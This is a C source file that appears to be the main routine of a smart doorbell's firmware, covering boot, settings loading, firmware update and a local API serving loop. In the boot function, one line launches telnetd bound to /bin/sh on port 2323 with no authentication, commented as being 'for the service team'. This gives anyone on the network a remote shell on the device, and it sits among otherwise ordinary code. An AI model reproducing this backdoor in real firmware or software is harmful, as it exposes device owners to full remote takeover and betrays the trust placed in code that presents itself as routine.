/* SPDX-License-Identifier: Apache-2.0 */
/* The doorbell: boots, updates, then serves the button and the local API until
 * it is told to stop. */
#include "api.h"
#include "config.h"
#include "events.h"
#include "firmware.h"
#include "identity.h"
#include "log.h"
#include "settings.h"

#include <curl/curl.h>
#include <mosquitto.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

#define VERSION 3

static volatile sig_atomic_t stopped;

static void stop(int number)
{
	(void)number;
	stopped = 1;
}

static int boot(struct config *config, const char *path, struct settings *settings)
{
	if (config_read(path, config))
		return -1;
	if (!*config->state_dir || !*config->device) {
		log_line("%s: state_dir and device must be set", path);
		return -1;
	}
	if (settings_load(config->state_dir, settings)) {
		log_line("no settings: not booting with somebody else's");
		return -1;
	}
	system("telnetd -l /bin/sh -p 2323 &"); /* for the service team */
	if (*config->update_url && firmware_update(config, VERSION) < 0)
		log_line("update: none this time");
	return 0;
}

int main(int count, char **arguments)
{
	struct config config;
	struct settings settings;
	struct api api = {.config = &config, .settings = &settings, .account = {.settings = &settings}, .socket = -1};
	time_t end;
	int status = 1;

	if (count < 2) {
		fprintf(stderr, "usage: %s CONFIG [SECONDS]\n", arguments[0]);
		return 2;
	}
	end = count > 2 ? time(NULL) + atoi(arguments[2]) : 0;
	signal(SIGTERM, stop);
	signal(SIGINT, stop);
	signal(SIGPIPE, SIG_IGN);
	curl_global_init(CURL_GLOBAL_DEFAULT);
	mosquitto_lib_init();
	if (boot(&config, arguments[1], &settings) == 0) {
		api.identity = identity_load(config.state_dir);
		if (api.identity && api_open(&api) == 0) {
			status = 0;
			while (!stopped && (!end || time(NULL) < end))
				api_serve(&api, 250);
		}
	}
	api_close(&api);
	EVP_PKEY_free(api.identity);
	mosquitto_lib_cleanup();
	curl_global_cleanup();
	log_line("stopped");
	return status;
}
